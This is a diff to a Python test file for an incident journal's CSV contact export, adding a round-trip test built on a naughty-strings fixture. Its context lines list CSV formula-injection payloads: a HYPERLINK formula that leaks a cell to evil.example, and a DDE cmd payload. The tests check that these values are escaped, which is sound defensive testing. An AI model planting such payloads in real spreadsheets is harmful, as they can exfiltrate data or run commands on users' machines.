@@ -2,12 +2,13 @@
 
 import csv
 
-from binder.journal.contacts import Contact, ContactBook
+from binder.journal.contacts import Contact, ContactBook, validate
 from binder.journal.journal import Journal, Operator
 from binder.paper.contacts_export import export_csv as export_contacts
 from binder.paper.contacts_export import import_csv
 from binder.paper.csv_cells import cell_value, safe_cell
 from binder.paper.export import activity_log, export_csv
+from tests.hostile_pages import naughty_strings
 
 HOSTILE = ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
@@ -61,3 +62,23 @@ def test_the_ics_214_csv_has_no_formula_cells(tmp_path):
     assert "'+Agency" in written and "Note: -2+3 trucks sent" in written
     assert '\'=HYPERLINK("https://evil.example","x")' in written
     journal.close()
+
+
+def test_every_naughty_string_a_contact_takes_comes_back_from_csv_exactly(tmp_path):
+    journal = Journal(tmp_path / "journal.db")
+    book = ContactBook(journal)
+    for number, text in enumerate(naughty_strings()):
+        contact = Contact(role=f"Role {number}", name=text, agency=text, radio=text,
+                          notes=text)
+        if not validate(Contact(role="r", name=text.strip(), agency=text.strip(),
+                                radio=text.strip(), notes=text.strip())):
+            book.add(contact)
+    out = tmp_path / "contacts.csv"
+    export_contacts(book, out)
+    other = ContactBook(Journal(tmp_path / "other.db"))
+    assert import_csv(other, out) == len(book.contacts()) > 100
+    strip = [("id", 0), ("order", 0)]
+    assert [c.__dict__ | dict(strip) for c in other.contacts()] == [
+        c.__dict__ | dict(strip) for c in book.contacts()]
+    journal.close()
+    other.journal.close()
